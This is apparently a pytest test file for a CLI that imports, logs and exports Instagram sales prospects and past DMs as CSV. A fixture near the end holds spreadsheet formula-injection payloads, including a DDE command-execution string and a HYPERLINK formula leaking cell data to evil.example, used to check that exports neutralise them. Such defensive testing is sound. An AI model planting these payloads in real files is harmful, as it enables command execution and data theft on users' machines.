"""``import``, ``import-logs`` and ``export`` through the CLI."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from cli_support import Cli, initialised, refused


@pytest.fixture
def team(home: Path) -> Cli:
    """A CLI on a home initialised for Sarah on an embedded cloud."""
    return initialised(home)


def write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


def test_import_reads_a_handle_column_and_reports_every_invalid_line(
    team: Cli, tmp_path: Path
) -> None:
    team.ok("prospect", "add", "already.known")
    leads = write(
        tmp_path / "leads.csv",
        "name,handle,city\n"
        "Anna,@Anna.Glow,Lisbon\n"
        "Ben,https://www.instagram.com/ben_fit/?igsh=abc123,Porto\n"
        "Bad,foo..bar,Faro\n"
        "Dup,anna.glow,Lisbon\n"
        "Known,ALREADY.KNOWN,Braga\n"
        "Empty,,Evora\n"
        "Url,https://www.instagram.com/p/Cx1/,Faro\n",
    )
    report = json.loads(team.ok("--json", "import", str(leads)).stdout)
    assert (report["rows"], report["added"], report["already_known"]) == (7, 2, 1)
    assert report["duplicates_in_file"] == 1
    invalid = {item["line"]: item for item in report["invalid"]}
    assert sorted(invalid) == [4, 7, 8]
    assert invalid[4]["value"] == "foo..bar"
    assert "'..'" in invalid[4]["reason"]
    assert invalid[7]["reason"] == "empty"
    assert "not a profile URL" in invalid[8]["reason"]
    listed = json.loads(team.ok("--json", "prospect", "list").stdout)
    assert [p["handle"] for p in listed] == ["already.known", "anna.glow", "ben_fit"]


def test_reimporting_the_same_file_adds_nothing(team: Cli, tmp_path: Path) -> None:
    leads = write(tmp_path / "leads.csv", "handle\nfoo.bar\nbaz.qux\n")
    first = json.loads(team.ok("--json", "import", str(leads)).stdout)
    again = json.loads(team.ok("--json", "import", str(leads)).stdout)
    assert (first["added"], again["added"], again["already_known"]) == (2, 0, 2)
    status = json.loads(team.ok("--json", "status", "--offline").stdout)
    assert status["pending_changes"] == 2  # one queued "add" per new lead, not per import


def test_import_accepts_a_file_of_profile_urls_and_a_named_column(
    team: Cli, tmp_path: Path
) -> None:
    urls = write(
        tmp_path / "urls.csv",
        "Profile Link,notes\nhttps://www.instagram.com/glow.skin/,x\ninstagram.com/fit_coach,y\n",
    )
    report = json.loads(
        team.ok(
            "--json", "import", str(urls), "--column", "profile link", "--status", "warm"
        ).stdout
    )
    assert report["added"] == 2
    listed = json.loads(team.ok("--json", "prospect", "list", "--status", "warm").stdout)
    assert [p["handle"] for p in listed] == ["fit_coach", "glow.skin"]


def test_import_prints_counts_and_line_numbers_for_people(team: Cli, tmp_path: Path) -> None:
    leads = write(tmp_path / "leads.csv", "handle\nok.lead\nnot valid\n")
    printed = team.ok("import", str(leads)).stdout
    assert "added 1" in printed
    assert "invalid 1" in printed
    assert "line 3: not valid:" in printed


def test_import_refuses_a_file_it_cannot_use(team: Cli, tmp_path: Path) -> None:
    refused(team("import", str(tmp_path / "missing.csv")), 1, "cannot read")
    two = write(tmp_path / "two.csv", "first,second\na,b\n")
    refused(team("import", str(two)), 1, "cannot tell which column", "--column")
    refused(team("import", str(two), "--column", "nope"), 1, "column 'nope' is not in two.csv")
    refused(team("import", str(two), "--column", "first", "--status", "tepid"), 1, "'tepid'")


def test_import_logs_records_past_dms_and_reimporting_adds_nothing(
    team: Cli, tmp_path: Path
) -> None:
    history = write(
        tmp_path / "history.csv",
        "handle,message,sent_at,actor\n"
        "@Old.Lead,Hey there 👋,2024-05-01T10:00:00Z,sarah.sells\n"
        "old.lead,Following up,2024-05-03T10:00:00+02:00,sarah.sells\n"
        "other.lead,Hi,2024-05-02T09:00:00Z,marcus.closes\n"
        "bad..lead,Hi,2024-05-02T09:00:00Z,sarah.sells\n"
        "no.time,Hi,,sarah.sells\n"
        "late.lead,Hi,last tuesday,sarah.sells\n",
    )
    first = json.loads(team.ok("--json", "import-logs", str(history), "--add-actors").stdout)
    assert (first["rows"], first["added"], first["already_known"]) == (6, 3, 0)
    assert first["actors_added"] == ["marcus.closes"]
    invalid = {item["line"]: item["reason"] for item in first["invalid"]}
    assert sorted(invalid) == [5, 6, 7]
    assert "'..'" in invalid[5]
    assert "missing sent_at" in invalid[6]
    assert "'last tuesday'" in invalid[7]
    again = json.loads(team.ok("--json", "import-logs", str(history)).stdout)
    assert (again["added"], again["already_known"]) == (0, 3)

    card = json.loads(team.ok("--json", "prospect", "show", "old.lead").stdout)
    assert (card["status"], card["owner_actor"]) == ("contacted", "sarah.sells")
    assert card["first_contacted"] == "2024-05-01T10:00:00.000000Z"
    assert [log["sent_at"] for log in card["recent_logs"]] == [
        "2024-05-03T08:00:00.000000Z",
        "2024-05-01T10:00:00.000000Z",
    ]
    status = json.loads(team.ok("--json", "status", "--offline").stdout)
    assert status["pending_logs"] == 3


def test_imported_dms_reach_the_cloud_once(team: Cli, tmp_path: Path) -> None:
    history = write(
        tmp_path / "history.csv",
        "handle,message,sent_at,actor\nold.lead,Hi,2024-05-01T10:00:00Z,sarah.sells\n",
    )
    team.ok("import-logs", str(history))
    team.ok("sync")
    team.ok("import-logs", str(history))
    team.ok("sync")
    check = json.loads(team.ok("--json", "cloud", "check").stdout)
    assert check["counts"]["outreach_logs"] == 1


def test_export_writes_what_list_shows(team: Cli, tmp_path: Path) -> None:
    team.ok("prospect", "add", "a.lead", "--status", "warm", "--notes", "comma, and\nnewline")
    team.ok("prospect", "add", "b.lead")
    team.ok("log", "--to", "c.lead", "--message", "hi")
    for filters in ((), ("--status", "warm"), ("--search", "lead")):
        target = tmp_path / "out.csv"
        team.ok("export", str(target), *filters)
        with target.open(encoding="utf-8", newline="") as handle:
            exported = list(csv.DictReader(handle))
        listed = json.loads(team.ok("--json", "prospect", "list", *filters).stdout)
        assert [row["handle"] for row in exported] == [p["handle"] for p in listed]
        for row, item in zip(exported, listed, strict=True):
            for key in ("status", "owner_actor", "notes", "first_contacted", "last_updated"):
                assert row[key] == (item[key] or ""), key


def test_export_to_stdout(team: Cli) -> None:
    team.ok("prospect", "add", "a.lead")
    printed = team.ok("export", "-").stdout
    assert printed.splitlines()[0].startswith('"handle","status","owner_actor"')
    assert printed.splitlines()[1].startswith('"a.lead","new",')


def test_a_refused_export_leaves_no_file_behind(team: Cli, tmp_path: Path) -> None:
    folder = tmp_path / "exports"
    folder.mkdir()
    refused(team("export", str(folder / "out.csv"), "--status", "lukewarm"), 1, "lukewarm")
    assert list(folder.iterdir()) == []


# Notes a teammate (or another tool writing the cloud) may have left, each starting with
# something a spreadsheet runs as a formula.
FORMULA_NOTES = {
    "eq.lead": "=cmd|' /C calc'!A0",
    "plus.lead": "+1+1",
    "minus.lead": "-2+3",
    "at.lead": "@SUM(1,2)",
    "link.lead": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "mark.lead": "'=already marked",
    "semi.lead": "fine;=1+1",
    "tab.lead": "\t=1+1",
    "cr.lead": "\r=1+1",
    "lf.lead": "\n=1+1",
}


def put_notes(home: Path, notes: dict[str, str]) -> None:
    """Write the notes as a pull would: straight into the cache, unvalidated."""
    from dmledger.app.ledger import Ledger
    from dmledger.domain.records import Prospect

    ledger = Ledger.open(home)
    try:
        with ledger.local.transaction() as conn:
            for handle, text in notes.items():
                ledger.local.put_prospect(conn, Prospect(handle, "new", notes=text))
    finally:
        ledger.close()


def test_export_marks_every_formula_cell_as_text_and_import_gives_the_text_back(
    team: Cli, home: Path, tmp_path: Path
) -> None:
    put_notes(home, FORMULA_NOTES)
    target = tmp_path / "out.csv"
    team.ok("export", str(target))
    raw = target.read_text(encoding="utf-8")
    with target.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), row
    exported = {row[0]: row[6] for row in rows[1:]}
    assert exported["eq.lead"] == "'=cmd|' /C calc'!A0"
    assert exported["mark.lead"] == "''=already marked"
    assert exported["tab.lead"] == "'\t=1+1"
    assert '"fine;=1+1"' in raw  # quoted: a ;-separated spreadsheet keeps it one cell

    other = initialised(tmp_path / "other-home")
    report = json.loads(other.ok("--json", "import", str(target)).stdout)
    assert report["added"] == len(FORMULA_NOTES)
    for handle, text in FORMULA_NOTES.items():
        shown = json.loads(other.ok("--json", "prospect", "show", handle, "--local").stdout)
        # Notes are trimmed wherever they come in: a leading tab or line break goes.
        assert shown["notes"] == text.strip(), handle


def test_the_export_of_notes_set_through_the_cli_is_safe_too(team: Cli, tmp_path: Path) -> None:
    for lead in ("=", "+", "-", "@"):
        team.ok("prospect", "add", f"lead{ord(lead)}", "--notes", f"{lead}1+1")
    printed = team.ok("export", "-").stdout
    cells = [cell for row in csv.reader(printed.splitlines()) for cell in row]
    assert sorted(c for c in cells if c.endswith("1+1")) == ["'+1+1", "'-1+1", "'=1+1", "'@1+1"]
